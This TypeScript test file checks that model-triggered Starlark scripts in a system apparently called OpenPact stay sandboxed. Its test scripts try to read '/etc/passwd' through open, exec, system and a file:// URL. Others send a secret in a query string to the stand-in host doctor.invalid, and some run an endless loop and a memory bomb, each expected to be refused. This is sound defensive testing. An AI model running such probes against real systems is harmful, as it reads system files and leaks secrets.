// Scripts of the trial: each is made over the API as the owner would, and run by a model's call through the gate.
import { randomBytes } from 'node:crypto';
import { AppError } from '../../core/index.ts';
import { settingsSchema } from '../../config/schema.ts';
import type { Bench } from './bench.ts';
import { judged, notHere, type Check, type CheckGroup, type Finding } from './control.ts';

interface Ran {
  /** To its end, without an error. */
  readonly done: boolean;
  readonly text: string;
}

async function save(bench: Bench, name: string, source: string): Promise<{ hash: string; revision: number }> {
  const { json } = await bench.ask({ method: 'POST', path: '/api/scripts', body: { name, source } });
  return { hash: String(json['hash']), revision: Number(json['revision']) };
}

async function approve(bench: Bench, name: string, source: string, grant?: object): Promise<number> {
  const { hash, revision } = await save(bench, name, source);
  const body = { hash, revision, password: bench.password, ...(grant === undefined ? {} : { grant }) };
  return (await bench.ask({ method: 'POST', path: `/api/scripts/${name}/approve`, body })).status;
}

async function run(bench: Bench, name: string): Promise<Ran> {
  const { results } = await bench.turn([{ calls: [{ name: 'script_run', arguments: { name } }] }]);
  const [result] = results;
  const text = JSON.stringify(result?.result ?? null);
  return { done: result?.outcome === 'done' && text.includes('"error":null'), text };
}

/** Below level 2 the box has no walls, and scripts do not run. */
function fenced(check: (bench: Bench) => Promise<Finding>): Check['run'] {
  return async (bench) =>
    bench.isolation.level >= 2
      ? check(bench)
      : notHere(
          'Scripts do not run here: this machine has no Landlock and seccomp to fence them in.',
          'See the isolation above.',
        );
}

const approval: Check = {
  ids: ['S-07', 'S-08', 'S-78', 'S-88'],
  title: 'approval of scripts',
  run: fenced(async (bench) => {
    await save(bench, 'doctor_new', 'result = "ran unapproved"\n');
    const unapproved = await run(bench, 'doctor_new');
    const { text } = await bench.ask({ path: '/api/scripts' });
    const status = await approve(bench, 'doctor_bytes', 'result = "as approved"\n');
    const approved = await run(bench, 'doctor_bytes');
    bench.trial.write('ai-data/scripts/doctor_bytes.star', 'result = "swapped"\n');
    const swapped = await run(bench, 'doctor_bytes');
    return judged('Ran a script that nobody approved, one that was, and that one with its file swapped', [
      !/"doctor_new(?:\.star)?"[^}]*"pending"|"pending"[^}]*"doctor_new/.test(text) &&
        'the list does not show it as waiting',
      unapproved.text.includes('ran unapproved') && 'the one that nobody approved ran',
      status !== 200 && `the approval got ${status}`,
      !approved.text.includes('as approved') && `the approved one did not run: ${approved.text}`,
      swapped.text.includes('swapped') && 'the swapped bytes ran',
    ]);
  }),
};

const box: Check = {
  ids: ['S-06', 'S-48'],
  title: 'what a script reaches',
  run: fenced(async (bench) => {
    const attempts = [
      ...['open', 'exec', 'eval', '__import__', 'system'].map((name) => `${name}("/etc/passwd")`),
      'http.get("http://127.0.0.1/")',
    ];
    const reached: string[] = [];
    for (const [index, attempt] of attempts.entries()) {
      const name = `doctor_reach_${index}`;
      await approve(bench, name, `result = ${attempt}\n`, { secrets: {}, hosts: [], methods: [] });
      if ((await run(bench, name)).done) reached.push(attempt);
    }
    return judged(
      'Ran scripts that open a file, run code and commands, import and ask this machine without a grant: each ended with an error',
      reached.map((attempt) => `${attempt} worked`),
    );
  }),
};

const secrets: Check = {
  ids: ['S-09', 'S-12', 'S-69'],
  title: 'secrets in scripts',
  run: fenced(async (bench) => {
    const source =
      '# @secrets: DOCTOR\n# @hosts: doctor.invalid\nk = secrets.get("DOCTOR")\nprint(k)\nresult = ["so: " + k, secrets.get("SETUP_CODE") == None]\n';
    const status = await approve(bench, 'doctor_secret', source);
    const { text } = await run(bench, 'doctor_secret');
    return judged('Ran a script that returns its secret and asks for one that it was not granted', [
      status !== 200 && `the approval got ${status}`,
      text.includes(bench.secret) && 'the value came out',
      !text.includes('[REDACTED:DOCTOR]') && `no marker stands in its place: ${text}`,
      !text.includes('true') && 'the other one was given',
    ]);
  }),
};

const limits: Check = {
  ids: ['S-27', 'S-28', 'S-31', 'S-49', 'S-89'],
  title: 'limits of a script',
  run: fenced(async (bench) => {
    await approve(
      bench,
      'doctor_loop',
      'n = 0\nfor i in range(1000000000000):\n    n = i\nresult = "ended"\n',
    );
    await approve(bench, 'doctor_memory', 'result = len("x" * 4000000000)\n');
    const loop = await run(bench, 'doctor_loop');
    const memory = await run(bench, 'doctor_memory');
    return judged('Ran an endless loop and a memory bomb: each ended with its limit', [
      !/"code":"(?:steps|time_limit)"/.test(loop.text) && `the loop: ${loop.text}`,
      !/"code":"[a-z_]*memory"/.test(memory.text) && `the bomb: ${memory.text}`,
    ]);
  }),
};

/** Where a script may send what: only attempts that fail before anything is sent, so that nothing leaves the machine. */
const network: Check = {
  ids: ['S-47', 'S-51'],
  title: 'network of a script',
  run: fenced(async (bench) => {
    const own = new URL(bench.program.address).host;
    const secret = '# @secrets: DOCTOR\nk = secrets.get("DOCTOR")\n';
    const grant = {
      secrets: { DOCTOR: ['doctor.invalid'] },
      hosts: [own, 'doctor.invalid'],
      methods: ['GET'],
    };
    const attempts: readonly (readonly [what: string, source: string, code: string])[] = [
      ['a file was asked for', 'http.get("file:///etc/passwd")\n', 'url_invalid'],
      ['OpenPact itself was asked', `http.get("http://${own}/health")\n`, 'address_refused'],
      [
        'a secret was sent over http',
        `${secret}http.get("http://doctor.invalid/?k=" + k)\n`,
        'scheme_refused',
      ],
      ['a secret was sent elsewhere', `${secret}http.get("https://${own}/?k=" + k)\n`, 'secret_not_bound'],
    ];
    const wrong: string[] = [];
    for (const [index, [what, source, code]] of attempts.entries()) {
      const name = `doctor_network_${index}`;
      const text = source.startsWith('#') ? source : `# @secrets: DOCTOR\n${source}`;
      await approve(bench, name, text, grant);
      const ran = await run(bench, name);
      if (!ran.text.includes(`"code":"${code}"`)) wrong.push(`${what}: ${ran.text}`);
    }
    const { results } = await bench.turn([
      {
        calls: [
          { name: 'script_exec', arguments: { code: 'result = [secrets.get("DOCTOR"), "came back"]' } },
        ],
      },
    ]);
    const inline = JSON.stringify(results[0]?.result ?? null);
    return judged(
      'Ran scripts that read a file by http, ask OpenPact itself, and send a secret elsewhere and over http; gave no secret to code without a review',
      [
        ...wrong,
        !inline.includes('[null,"came back"]') && `code that nobody reviewed got an answer: ${inline}`,
      ],
    );
  }),
};

const rate: Check = {
  ids: ['S-32'],
  title: 'rate of requests',
  async run({ parts, program }) {
    // It counts before it looks at the address, and this address is refused.
    const guard = parts.egress({ clock: program.inside.base.clock });
    const codes: string[] = [];
    for (let asked = 0; asked < 6; asked += 1) {
      const request = { script: 'doctor', url: 'http://127.0.0.1/', method: 'GET', headers: [] } as const;
      await guard.send({ ...request, timeoutMs: 1_000, maxBytes: 1 }).catch((error: unknown) => {
        codes.push(error instanceof AppError ? error.code : 'fault');
      });
    }
    return judged(
      'Asked for an address of this machine six times at once, as a script: refused, and the last one as too many',
      [
        codes.length < 6 && 'the address was reached',
        codes.at(-1) !== 'rate_limited' && 'the sixth request in a second was not cut off',
      ],
    );
  },
};

const quotas: Check = {
  ids: ['S-30'],
  title: 'quotas of a script',
  run: fenced(async (bench) => {
    const grant = { secrets: {}, hosts: [], methods: [], quotas: { runs_per_hour: 1 } };
    await approve(bench, 'doctor_quota', 'result = "within"\n', grant);
    const first = await run(bench, 'doctor_quota');
    const second = await run(bench, 'doctor_quota');
    return judged('Ran a script twice that may run once in an hour: the second run was refused', [
      !first.text.includes('within') && `the first run: ${first.text}`,
      second.text.includes('within') && 'it ran twice',
    ]);
  }),
};

const offSwitch: Check = {
  ids: ['S-81', 'S-83'],
  title: 'runs and the off switch',
  run: fenced(async (bench) => {
    await approve(bench, 'doctor_off', 'result = "on"\n');
    const before = await run(bench, 'doctor_off');
    const { status } = await bench.ask({ method: 'POST', path: '/api/scripts/doctor_off/disable', body: {} });
    const after = await run(bench, 'doctor_off');
    const { text } = await bench.ask({ path: '/api/scripts/doctor_off/runs' });
    const logged = bench.program.inside.base.audit
      .list({ limit: 200 })
      .some(({ event, target }) => event === 'script.ended' && target === 'doctor_off');
    return judged(
      'Ran a script, switched it off and ran it again; looked for the run in its record and in the log',
      [
        !before.text.includes('"on"') && `it did not run: ${before.text}`,
        status >= 300 && `switching it off got ${status}`,
        after.text.includes('"on"') && 'it ran although it was off',
        !text.includes('"ok"') && 'its record does not have the run',
        !logged && 'the audit log does not have the run',
      ],
    );
  }),
};

const pinned: Check = {
  ids: ['S-46'],
  title: 'trusted scripts',
  run() {
    const { shape } = settingsSchema.shape.starlark.shape.approval;
    const takes = (entry: string): boolean => shape.auto_approve.safeParse([entry]).success;
    return judged(
      'Gave names, patterns and a digest to the list of scripts that need no approval: the digest alone is taken',
      [
        ...['weather', '*', 'trusted/*', 'weather.star'].map(
          (entry) => takes(entry) && `"${entry}" was taken`,
        ),
        !takes(`sha256:${'0'.repeat(64)}`) && 'a digest is not taken',
      ],
    );
  },
};

const rotation: Check = {
  ids: ['S-79'],
  title: 'rotation of secrets',
  async run(bench) {
    const [old, now] = [randomBytes(18).toString('base64url'), randomBytes(18).toString('base64url')];
    const made = await bench.ask({
      method: 'POST',
      path: '/api/secrets',
      body: { name: 'DOCTOR_TURNS', value: old, password: bench.password },
    });
    const changed = await bench.ask({
      method: 'PUT',
      path: '/api/secrets/DOCTOR_TURNS',
      body: { value: now, password: bench.password },
    });
    const { prompts } = await bench.turn([{ text: 'ok' }], { message: `old ${old} new ${now}` });
    const told = prompts.join('\n');
    return judged('Stored a secret, rotated it, and said both values to a model: both were hidden', [
      made.status !== 201 && `storing it got ${made.status}`,
      changed.status >= 300 && `rotating it got ${changed.status}`,
      [made, changed].some(({ text }) => text.includes(old) || text.includes(now)) &&
        'an answer shows a value',
      told.includes(old) && 'the model was told the old value',
      told.includes(now) && 'the model was told the new value',
    ]);
  },
};

export const scriptChecks: CheckGroup = {
  name: 'Scripts',
  checks: [approval, box, secrets, limits, network, rate, quotas, offSwitch, pinned, rotation],
};
